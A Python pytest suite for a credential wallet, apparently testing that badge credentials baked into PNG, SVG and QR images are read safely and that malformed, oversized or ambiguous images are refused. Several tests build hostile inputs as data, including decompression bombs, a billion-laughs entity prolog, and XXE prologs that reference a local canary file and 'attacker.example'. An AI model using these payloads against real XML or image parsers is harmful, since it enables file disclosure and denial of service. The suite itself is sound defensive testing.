"""Picture rows of the threat table: what is baked in is found by content, within budgets, once."""

import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image

from tests.examining import Door
from tests.issuer_simulator import Issuer, baking
from wallet.errors import InputError, TooBigError
from wallet.formats.envelope import Container
from wallet.formats.refusals import AmbiguousInputError
from wallet.report import Verdict


def refused(door: Door, source: bytes) -> InputError:
    """Return why the only thing in `source` was refused."""
    (error,) = door.refusals(source)
    assert door.attempt(source) == []
    assert isinstance(error, InputError)
    return error


@pytest.mark.parametrize("kind", [b"iTXt", b"tEXt", b"zTXt"])
@pytest.mark.parametrize("secured", ["eddsa-rdfc-2022", "vc+jwt"])
def test_a_baked_picture_is_read_and_kept_whole(issuer: Issuer, door: Door, kind: bytes, secured: str) -> None:
    picture = baking.bake_png(issuer.issue(secured), kind=kind)
    checked = door.check(picture)
    assert checked.report.verdict is Verdict.VERIFIED
    assert checked.envelope.original == picture
    assert checked.envelope.container is Container.PNG


@pytest.mark.parametrize("secured", ["eddsa-jcs-2022", "jwt-vc"])
def test_a_baked_svg_is_read_and_kept_whole(issuer: Issuer, door: Door, secured: str) -> None:
    picture = baking.bake_svg(issuer.issue(secured))
    checked = door.check(picture)
    assert checked.report.verdict is Verdict.VERIFIED
    assert checked.envelope.original == picture


def _picture(form: str) -> bytes:
    packed = io.BytesIO()
    Image.new("RGB", (32, 32), "teal").save(packed, form)
    return packed.getvalue()


@pytest.mark.parametrize("form", ["TGA", "ICO", "BMP", "TIFF", "GIF", "PPM", "ICNS"])
def test_IMG_06_only_three_picture_formats_are_ever_decoded(door: Door, form: str) -> None:
    refused(door, _picture(form))


def test_IMG_06_bytes_are_what_they_are_whatever_they_are_called(issuer: Issuer, door: Door) -> None:
    """A PNG signature in front of something else is a broken PNG; it is not looked at as something else."""
    credential = issuer.issue("eddsa-jcs-2022")
    for disguised in (baking.bake_svg(credential), credential, b"%PDF-1.7\n" + credential, b"GIF89a"):
        refused(door, baking.SIGNATURE + disguised)
        refused(door, b"\xff\xd8\xff\xe0" + disguised)


def test_IMG_06_an_svgz_is_refused_before_any_picture_code(issuer: Issuer, door: Door) -> None:
    import gzip

    refused(door, gzip.compress(baking.bake_svg(issuer.issue("eddsa-jcs-2022"))))


def _declared(width: int, height: int, depth: int = 1, colour: int = 0) -> bytes:
    """A small file that says it is a very large picture."""
    header = baking.chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    row = (width * depth + 7) // 8 + 1
    rows = zlib.compress(bytes(min(row * height, 1 << 22)))
    return baking.SIGNATURE + header + baking.chunk(b"IDAT", rows) + baking.chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(4_001, 4_000), (30_000, 30_000), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0)])
def test_IMG_07_a_picture_of_too_many_pixels_is_refused(door: Door, size: tuple[int, int]) -> None:
    refused(door, _declared(*size))


def test_IMG_08_a_text_that_inflates_without_end_is_refused(door: Door) -> None:
    text = b"openbadgecredential\0\0" + zlib.compress(bytes(200 << 20), 9)
    picture = baking.plain_png()
    bomb = picture[:33] + baking.chunk(b"zTXt", text) + picture[33:]
    assert isinstance(refused(door, bomb), TooBigError)
    international = b"openbadgecredential\0\1\0\0\0" + zlib.compress(bytes(200 << 20), 9)
    assert isinstance(refused(door, picture[:33] + baking.chunk(b"iTXt", international) + picture[33:]), TooBigError)


def test_IMG_08_two_badges_in_one_picture_are_ambiguous(issuer: Issuer, door: Door) -> None:
    first, second = issuer.issue("vc+jwt"), issuer.issue("vc+jwt")
    for kind in (b"iTXt", b"tEXt", b"zTXt"):
        twice = baking.bake_png(first, None, b"iTXt", baking.text_chunk(second, kind=kind))
        assert isinstance(refused(door, twice), AmbiguousInputError)
    spelt = baking.bake_png(first, None, b"iTXt", baking.text_chunk(second, keyword=b"OpenBadgeCredential"))
    assert isinstance(refused(door, spelt), AmbiguousInputError)


def test_IMG_08_many_chunks_a_wrong_checksum_and_a_lying_length_are_refused(issuer: Issuer, door: Door) -> None:
    credential = issuer.issue("vc+jwt")
    crowded = baking.bake_png(credential, None, b"iTXt", *[baking.text_chunk(b"x", keyword=b"Comment")] * 80)
    refused(door, crowded)
    whole = bytearray(baking.bake_png(credential))
    whole[60] ^= 1
    refused(door, bytes(whole))
    lying = bytearray(baking.bake_png(credential))
    lying[33:37] = struct.pack(">I", 2**31 - 1)
    refused(door, bytes(lying))
    for cut in range(34, 120, 7):
        refused(door, baking.bake_png(credential)[:cut])


def test_IMG_08_an_empty_or_foreign_badge_text_is_refused(door: Door) -> None:
    for text in (b"", b" ", b"\0", b"hello", b"<svg/>", b"[]", b"{}", b"null", baking.plain_png()):
        refused(door, baking.bake_png(text))


LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
CREDENTIAL = "<openbadges:credential>{}</openbadges:credential>"


@pytest.mark.parametrize(
    "prolog",
    [
        LAUGHS,
        '<!DOCTYPE svg [<!ENTITY c SYSTEM "{canary}">]>',
        '<!DOCTYPE svg [<!ENTITY c SYSTEM "http://attacker.example/x">]>',
        '<!DOCTYPE svg SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "{canary}"> %p;<!ENTITY c "x">]>',
    ],
)
def test_IMG_09_no_entity_and_no_external_part_is_ever_followed(door: Door, tmp_path: Path, prolog: str) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("canary-4711")
    source = baking.svg(CREDENTIAL.format("&c;"), prolog.replace("{canary}", canary.as_uri()))
    assert "canary-4711" not in str(vars(refused(door, source)))


def test_IMG_09_exactly_one_badge_element_of_the_right_namespace_is_read(issuer: Issuer, door: Door) -> None:
    token = issuer.issue("vc+jwt").decode()
    one = CREDENTIAL.format(f"<![CDATA[{token}]]>")
    assert door.verdict(baking.svg(one)) is Verdict.VERIFIED
    refused(door, baking.svg(one + one))
    refused(door, baking.svg(f'<openbadges:credential verify="{token}">{token}</openbadges:credential>'))
    for name in (
        "https://purl.imsglobal.org/ob/v3p0/",
        "https://attacker.example",
        "http://purl.imsglobal.org/ob/v3p0",
    ):
        refused(door, baking.svg(one).replace(b"https://purl.imsglobal.org/ob/v3p0", name.encode()))


def test_IMG_09_processing_instructions_and_scripts_are_not_read_as_badges(issuer: Issuer, door: Door) -> None:
    token = issuer.issue("vc+jwt").decode()
    for inner in (f"<!--{CREDENTIAL.format(token)}-->", f"<?credential {token}?>", f"<metadata>{token}</metadata>"):
        for checked in door.attempt(baking.svg(inner)):
            assert checked.report.verdict is Verdict.VERIFIED  # found as text in the file, honestly signed


def test_a_qr_picture_is_read(issuer: Issuer, door: Door) -> None:
    holder = issuer.sd_jwt({"course": "Statistics"}).token()
    checked = door.check(baking.qr_picture(holder))
    assert checked.report.verdict is Verdict.VERIFIED
    assert checked.envelope.container is Container.QR
